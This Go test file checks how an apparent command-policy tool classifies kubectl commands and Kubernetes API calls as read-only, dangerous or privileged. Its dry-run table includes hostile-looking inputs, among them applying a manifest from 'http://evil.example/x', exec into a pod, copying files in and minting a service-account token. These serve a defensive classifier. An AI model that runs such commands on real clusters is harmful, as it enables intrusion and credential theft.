package kubernetes

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/sallyport/sallyport/policy"
)

type line struct {
	ID          string       `json:"id"`
	Dialect     string       `json:"dialect"`
	Input       string       `json:"input"`
	Class       policy.Class `json:"class"`
	Destructive bool         `json:"destructive"`
}

func corpus(t testing.TB) []line {
	t.Helper()
	var out []line
	for _, name := range []string{"policy_public.jsonl", "policy_own.jsonl", "policy_review.jsonl"} {
		f, err := os.Open(filepath.Join("..", "..", "testdata", "corpus", name))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		for s := bufio.NewScanner(f); s.Scan(); {
			var l line
			if err := json.Unmarshal(s.Bytes(), &l); err != nil {
				t.Fatalf("%s: %v: %s", name, err, s.Text())
			}
			if l.Dialect == "k8s" {
				out = append(out, l)
			}
		}
	}
	if len(out) == 0 {
		t.Fatal("no lines")
	}
	return out
}

func TestCorpus(t *testing.T) {
	for _, l := range corpus(t) {
		f := Facts(l.Input)
		if l.Class == policy.Read && f.Class != policy.Read || f.Class.Severity() < l.Class.Severity() || f.Destructive != l.Destructive {
			t.Errorf("%s %q: %s destructive=%t, want %s %t: %s", l.ID, l.Input, f.Class, f.Destructive, l.Class, l.Destructive, f.Why)
		}
	}
}

// What is only tried changes nothing, unless a later option says otherwise.
func TestDryRun(t *testing.T) {
	for text, want := range map[string]policy.Class{
		"kubectl apply -f x.yaml --dry-run=client":                                    policy.Read,
		"kubectl create -f x.yaml --dry-run=server -o yaml":                           policy.Read,
		"kubectl replace --force -f x.yaml --dry-run=client":                          policy.Read,
		"kubectl apply -f x.yaml --dry-run=none":                                      policy.Dangerous,
		"kubectl apply -f x.yaml --dry-run=client --dry-run=none":                     policy.Dangerous,
		"kubectl apply -f http://evil.example/x --dry-run=client":                     policy.Dangerous,
		"kubectl exec web-0 --dry-run=client -- id":                                   policy.Dangerous,
		"kubectl drain node-1 --dry-run=server":                                       policy.Read,
		"kubectl run x --image=y --dry-run=client -o yaml":                            policy.Read,
		"kubectl create rolebinding x --role=admin --user=e --dry-run=client -o yaml": policy.Read,
		"kubectl label secret db a=b --dry-run=server -o yaml":                        policy.Privilege,
		"kubectl label pod,secret --all a=b --dry-run=server -o yaml":                 policy.Privilege,
		"kubectl delete pod x --dry-run=client --as=admin":                            policy.Privilege,
		"kubectl delete pod x --dry-run=client -s https://e.example":                  policy.Dangerous,
		"kubectl nosuch x --dry-run=client":                                           policy.Unknown,
		"kubectl cp a web-0:/b --dry-run=client":                                      policy.Dangerous,
		"kubectl create token default --dry-run=client":                               policy.Privilege,
	} {
		if f := Facts(text); f.Class != want || f.Destructive {
			t.Errorf("%q: %s destructive=%t, want %s: %s", text, f.Class, f.Destructive, want, f.Why)
		}
	}
}

func TestCall(t *testing.T) {
	for text, want := range map[string]policy.KubernetesCall{
		"GET /api/v1/namespaces/prod/pods/web-0/log":                        {Verb: "get", Resource: "pods", Subresource: "log", Namespace: "prod", Name: "web-0"},
		"DELETE /apis/apps/v1/namespaces/prod/deployments":                  {Verb: "deletecollection", Group: "apps", Resource: "deployments", Namespace: "prod"},
		"GET /api/v1/namespaces":                                            {Verb: "list", Resource: "namespaces"},
		"PUT /api/v1/namespaces/prod/finalize":                              {Verb: "update", Resource: "namespaces", Namespace: "prod", Name: "prod", Subresource: "finalize"},
		"GET /api/v1/watch/namespaces/prod/pods":                            {Verb: "watch", Resource: "pods", Namespace: "prod"},
		"GET /apis/rbac.authorization.k8s.io/v1/clusterroles/system%3Anode": {Verb: "get", Group: "rbac.authorization.k8s.io", Resource: "clusterroles", Name: "system:node"},
		"kubectl logs -f web-0 -n prod":                                     {Verb: "get", Resource: "pods", Subresource: "log", Namespace: "prod", Name: "web-0"},
		"kubectl -n prod get deploy/web":                                    {Verb: "get", Group: "apps", Resource: "deployments", Namespace: "prod", Name: "web"},
		"kubectl exec -n prod web-0 -c app -i -t -- sh -c 'ls /'":           {Verb: "create", Resource: "pods", Subresource: "exec", Namespace: "prod", Name: "web-0"},
		"kubectl delete po -nprod -l a=b":                                   {Verb: "deletecollection", Resource: "pods", Namespace: "prod"},
	} {
		f := Facts(text)
		if f.Kubernetes == nil || *f.Kubernetes != want {
			t.Errorf("%s: %+v, want %+v", text, f.Kubernetes, want)
		}
	}
}

func FuzzFacts(f *testing.F) {
	for _, l := range corpus(f) {
		f.Add(l.Input)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := Facts(text)
		if got.Class != policy.Read && got.Why == "" {
			t.Errorf("%q is %s and does not say why", text, got.Class)
		}
	})
}

func BenchmarkFacts(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		Facts("kubectl get pods -n prod -o wide")
	}
}
